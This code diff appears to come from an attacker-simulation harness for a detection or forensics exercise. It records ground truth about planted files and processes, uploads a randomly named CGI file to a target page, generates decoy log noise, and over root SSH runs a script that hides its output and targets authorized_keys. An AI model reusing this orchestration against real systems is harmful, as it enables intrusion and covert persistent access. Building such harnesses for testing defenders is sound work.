@@ -24,9 +24,9 @@ from tries import all_ways, ask, session, ssh, upload
 HOME = Path("/var/lib/town")
 KEY, RECORD = HOME / "key", HOME / "record.json"
 PAUSE, AGAIN = 1.2, 4
-MOST = 40
-NOISE = 60
-"""So much is known of what the logs have of us from before we ever came in."""
+MOST, PATIENCE = 40, 10
+NOISE = 400
+"""So much is known of what the logs have of us; where it is more, every second one is forgotten."""
 
 
 class Record:
@@ -43,7 +43,8 @@ class Record:
         """Nothing has happened yet."""
         token, name = secrets.token_hex(8), f"concert-{secrets.token_hex(3)}.cgi"
         quiet = {"noise": {"access": [], "sshd": []}}
-        return {"token": token, "name": name, "came": None, "processes": [], "ways": {}, "rounds": 0, **quiet}
+        known = {"came": None, "processes": [], "ways": {}, "rounds": 0, "sent": False, "settled": None}
+        return {"token": token, "name": name, **known, **quiet}
 
     def save(self):
         """Write it down, whole."""
@@ -60,15 +61,18 @@ class Record:
                 if known["open"] != is_open:
                     known["open"], known["since"] = is_open, round(time.time(), 3)
                 known["ever"] = known["ever"] or is_open
+            if not self.told["settled"] and self.is_settled():
+                self.told["settled"] = round(time.time(), 3)
             self.save()
 
     def refused(self, log, mark):
-        """Note by what a log knows of a try that led nowhere, as long as none has led anywhere."""
+        """Note by what a log knows of a try that led nowhere, and when that was."""
         with self.lock:
             known = self.told["noise"][log]
-            if not self.told["processes"] and len(known) < NOISE:
-                known.append(mark)
-                self.save()
+            known.append([round(time.time(), 3), mark])
+            if len(known) > NOISE:
+                del known[1::2]
+            self.save()
 
     def came(self, way, mark):
         """Note how we came in, and by what a log knows of it."""
@@ -85,7 +89,7 @@ class Record:
                 files = [row.split(" ", 2) for row in base64.b64decode(planted).decode().splitlines()]
                 one = {
                     "id": number, "pid": int(pid), "sha256": sha, "began": round(time.time(), 3), "peers": [],
-                    "pids": [int(each) for each in pids.split(",") if each],
+                    "pids": [[int(row.split(":")[0]), row.split(":")[1]] for row in pids.split(",") if row],
                     "files": [{"time": int(at), "sha256": each, "path": path} for at, each, path in files],
                 }  # fmt: skip
                 self.told["processes"] = [*self.told["processes"][:1], *self.told["processes"][1:][-MOST:], one]
@@ -102,6 +106,10 @@ class Record:
             if ended:
                 one["ended"] = one["seen"]
             self.save()
+
+    def is_ready(self):
+        """Whether the picture lies there, or can't be sent."""
+        return self.told["sent"] or self.told["rounds"] > PATIENCE
 
     def is_settled(self):
         """Whether a process is there, and everything was tried since."""
@@ -159,6 +167,8 @@ class Answers(BaseHTTPRequestHandler):
         if self.path == "/key.pub":
             return self.say(200, KEY.with_suffix(".pub").read_bytes())
         if self.path == "/job":
+            while not record.is_ready():
+                time.sleep(0.2)
             if not record.told["processes"]:
                 record.came("job", os.environ["KIKORI_JOB"])
             return self.say(200, parcel.job(record.told["token"], public()).encode())
@@ -190,7 +200,7 @@ def come_in(found):
     """Once a way is open for the first time: plant what is to be planted."""
     token = record.told["token"]
     if found["root"]:
-        before = "echo $SSH_CONNECTION\nexec > /dev/null 2>&1\nfiles+=(/root/.ssh/authorized_keys)\n"
+        before = "echo $SSH_CONNECTION\nexec > /dev/null 2>&1\nfiles+=(/root/.ssh/authorized_keys)\n" + parcel.SENT
         told = parcel.comes("ssh", token, public(), before)
         said = ssh(str(KEY), "root", "bash -s", told.encode()).split()
         if len(said) == 4:
@@ -201,10 +211,12 @@ def come_in(found):
 
 
 def send(token, name):
-    """Send the picture until it has been run, and another one from then on; gives whether it runs."""
+    """Send the picture once, and another one again and again when a process is there; gives whether it runs."""
     if record.told["processes"]:
         return upload(token, f"again-{name}", parcel.probe(token))
-    return upload(token, name, parcel.upload(token, public()))
+    runs_now = not record.told["sent"] and upload(token, name, parcel.upload(token, public()))
+    record.told["sent"] = ask("GET", f"/pictures/{name}")[0] == 200
+    return runs_now
 
 
 def make_noise():
@@ -223,13 +235,13 @@ def main():
         threading.Thread(target=server(("", port), kind).serve_forever, daemon=True).start()
     token, name = record.told["token"], record.told["name"]
     while True:
-        if not record.told["processes"] or record.told["rounds"] % AGAIN == 0:
+        if not record.told["settled"] or record.told["rounds"] % AGAIN == 0:
             make_noise()
         found = all_ways(str(KEY), token, os.environ["KIKORI_PAGE"], name)
-        if not found["upload"] and record.told["rounds"] % AGAIN == 0:
+        if not found["upload"] and (not record.told["sent"] or record.told["rounds"] % AGAIN == 0):
             found["upload"] = send(token, name)
         record.tried(found)
-        if not record.told["processes"]:
+        if not record.told["processes"] and record.is_ready():
             come_in(found)
         time.sleep(PAUSE)
 
